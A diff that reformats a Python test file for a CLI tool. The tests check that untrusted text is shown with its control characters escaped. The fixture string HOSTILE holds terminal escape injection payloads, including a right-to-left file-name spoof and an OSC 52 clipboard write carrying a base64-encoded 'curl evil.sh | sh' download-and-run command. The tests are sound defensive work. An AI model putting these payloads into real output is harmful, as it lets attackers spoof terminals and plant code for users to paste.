@@ -18,8 +18,10 @@ from quaylocal.client import QuayClient
 from quaylocal.terminal import visible
 
 QUAY = [sys.executable, "-m", "quaylocal.cli"]
-HOSTILE = ("title\x1b]0;pwned\x07 clear\x1b[2J clip\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 "
-           "csi\x9b31m fake\nline rtl\u202eexe.txt")
+HOSTILE = (
+    "title\x1b]0;pwned\x07 clear\x1b[2J clip\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 "
+    "csi\x9b31m fake\nline rtl\u202eexe.txt"
+)
 
 
 def _no_raw_controls(text: str) -> None:
@@ -36,20 +38,53 @@ def test_visible_shows_escapes_and_keeps_text() -> None:
 
 
 def test_quay_room_ledger_and_approvals_print_untrusted_text_visibly(monkeypatch: pytest.MonkeyPatch) -> None:
-    msg = {"id": "m1", "created_at": "2026-01-01T00:00:00Z", "kind": "message", "text": HOSTILE,
-           "author": {"kind": "person", "id": "eve\x1b[8m", "company": "evil\x07"}, "to": []}
-    run = {"run_id": "run-1", "agent_id": "a1", "company": "acme", "room_id": "r1", "status": "failed_before_reply",
-           "wake_id": "w1", "hop": 0, "started_at": "2026", "ended_at": None, "error_class": "ModelCallFailed",
-           "error_message": HOSTILE}
-    request = {"n": 1, "sent_at": "2026-01-01T00:00:00Z", "provider": "openai-compatible", "status": 500,
-               "outcome": "error", "error_type": "x\x1b[2J", "message": HOSTILE, "category": "server_error",
-               "retryable": True, "decision": HOSTILE}
+    msg = {
+        "id": "m1",
+        "created_at": "2026-01-01T00:00:00Z",
+        "kind": "message",
+        "text": HOSTILE,
+        "author": {"kind": "person", "id": "eve\x1b[8m", "company": "evil\x07"},
+        "to": [],
+    }
+    run = {
+        "run_id": "run-1",
+        "agent_id": "a1",
+        "company": "acme",
+        "room_id": "r1",
+        "status": "failed_before_reply",
+        "wake_id": "w1",
+        "hop": 0,
+        "started_at": "2026",
+        "ended_at": None,
+        "error_class": "ModelCallFailed",
+        "error_message": HOSTILE,
+    }
+    request = {
+        "n": 1,
+        "sent_at": "2026-01-01T00:00:00Z",
+        "provider": "openai-compatible",
+        "status": 500,
+        "outcome": "error",
+        "error_type": "x\x1b[2J",
+        "message": HOSTILE,
+        "category": "server_error",
+        "retryable": True,
+        "decision": HOSTILE,
+    }
     approval = {"id": "run-1:0", "agent_id": "a1", "summary": HOSTILE, "status": "pending", "created_at": "2026"}
     monkeypatch.setattr(QuayClient, "transcript", lambda self, room: [msg])
     monkeypatch.setattr(QuayClient, "run", lambda self, run_id: {"run": run, "requests": [request], "actions": []})
     monkeypatch.setattr(QuayClient, "approvals", lambda self, room, status="pending": [approval])
-    monkeypatch.setattr(QuayClient, "room", lambda self, room: {"id": room, "name": "n\x1b[2J", "members": ["acme"],
-                                                                "agents": [{"id": "a1", "company": "acme"}]})
+    monkeypatch.setattr(
+        QuayClient,
+        "room",
+        lambda self, room: {
+            "id": room,
+            "name": "n\x1b[2J",
+            "members": ["acme"],
+            "agents": [{"id": "a1", "company": "acme"}],
+        },
+    )
     runner = CliRunner()
     for args in (["room", "r1"], ["room", "show", "r1"], ["ledger", "run-1"], ["approvals", "r1"]):
         result = runner.invoke(cli, args)
@@ -65,23 +100,44 @@ def test_quay_room_ledger_and_approvals_print_untrusted_text_visibly(monkeypatch
 def test_the_demo_rendering_shows_untrusted_text_visibly() -> None:
     from quaylocal.render import action_line, request_line
 
-    line = request_line({"n": 1, "sent_at": "", "provider": "openai", "status": 500, "outcome": "error",
-                         "error_type": "t\x1b[2J", "category": "server_error", "decision": HOSTILE})
+    line = request_line(
+        {
+            "n": 1,
+            "sent_at": "",
+            "provider": "openai",
+            "status": 500,
+            "outcome": "error",
+            "error_type": "t\x1b[2J",
+            "category": "server_error",
+            "decision": HOSTILE,
+        }
+    )
     _no_raw_controls(line)
     assert "\n" not in line
-    action = action_line({"index": 2, "kind": "create_task", "target": "task for b1", "decision": "ask",
-                          "approval": "approved", "outcome": "written", "reason": "acme policy: rule x = ask",
-                          "outcome_note": HOSTILE})
+    action = action_line(
+        {
+            "index": 2,
+            "kind": "create_task",
+            "target": "task for b1",
+            "decision": "ask",
+            "approval": "approved",
+            "outcome": "written",
+            "reason": "acme policy: rule x = ask",
+            "outcome_note": HOSTILE,
+        }
+    )
     _no_raw_controls(action)
     assert "\n" not in action
-    assert action.startswith("action 2 create_task → task for b1: ask → approved → written (acme policy: rule x = "
-                             "ask; title")
+    assert action.startswith(
+        "action 2 create_task → task for b1: ask → approved → written (acme policy: rule x = ask; title"
+    )
 
 
 # ----------------------------------------------------------------------------- finding 10
 def _quay(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess:
-    return subprocess.run([*QUAY, *args], capture_output=True, text=True, timeout=120, env=env, cwd=cwd,
-                          stdin=subprocess.DEVNULL)
+    return subprocess.run(
+        [*QUAY, *args], capture_output=True, text=True, timeout=120, env=env, cwd=cwd, stdin=subprocess.DEVNULL
+    )
 
 
 def _one_line_error(p: subprocess.CompletedProcess, *words: str) -> str:
@@ -103,10 +159,16 @@ def test_a_url_that_is_not_a_url_is_one_line() -> None:
 
 def test_bootstrap_token_without_region_or_credentials_is_one_line(tmp_path: Path) -> None:
     env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
-    env.update({"AWS_CONFIG_FILE": str(tmp_path / "none"), "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "none"),
-                "AWS_EC2_METADATA_DISABLED": "true", "HOME": str(tmp_path),
-                # never AWS: anything that still tried to send would hit a closed local port
-                "AWS_ENDPOINT_URL": "http://127.0.0.1:9"})
+    env.update(
+        {
+            "AWS_CONFIG_FILE": str(tmp_path / "none"),
+            "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "none"),
+            "AWS_EC2_METADATA_DISABLED": "true",
+            "HOME": str(tmp_path),
+            # never AWS: anything that still tried to send would hit a closed local port
+            "AWS_ENDPOINT_URL": "http://127.0.0.1:9",
+        }
+    )
     _one_line_error(_quay("admin", "bootstrap-token", "--table", "quayutec-room", env=env), "region")
     env["AWS_DEFAULT_REGION"] = "eu-west-1"
     _one_line_error(_quay("admin", "bootstrap-token", "--table", "quayutec-room", env=env), "credentials")
@@ -133,8 +195,9 @@ def test_dev_on_a_taken_port_or_with_a_bad_admin_token_is_one_line() -> None:
 
 def test_usage_errors_are_one_line_too() -> None:
     """Options in the wrong place, an unknown command: one line naming where to look, exit 2."""
-    assert "--help" in _one_line_error(_quay("--token", "x", "room", "list"), "No such option: --token",
-                                       "options go after it")
+    assert "--help" in _one_line_error(
+        _quay("--token", "x", "room", "list"), "No such option: --token", "options go after it"
+    )
     assert _quay("--version").stdout.strip() == _quay("version").stdout.strip() != ""
     assert _quay("--token", "x", "room", "list").returncode == 2
     _one_line_error(_quay("no-such-command"), "no-such-command", "--help")
@@ -142,8 +205,14 @@ def test_usage_errors_are_one_line_too() -> None:
 
 
 def test_a_messages_own_lines_stay_lines_in_quay_room(monkeypatch: pytest.MonkeyPatch) -> None:
-    msg = {"id": "m1", "created_at": "2026-01-01T00:00:00Z", "kind": "reply", "text": "Plan agreed.\n\nheld: x\x1b[2J",
-           "author": {"kind": "agent", "id": "acme.a1", "company": "acme"}, "to": []}
+    msg = {
+        "id": "m1",
+        "created_at": "2026-01-01T00:00:00Z",
+        "kind": "reply",
+        "text": "Plan agreed.\n\nheld: x\x1b[2J",
+        "author": {"kind": "agent", "id": "acme.a1", "company": "acme"},
+        "to": [],
+    }
     monkeypatch.setattr(QuayClient, "transcript", lambda self, room: [msg])
     monkeypatch.setattr(QuayClient, "approvals", lambda self, room, status="pending": [])
     monkeypatch.setattr(QuayClient, "room", lambda self, room: {"id": room, "members": ["acme"], "agents": []})
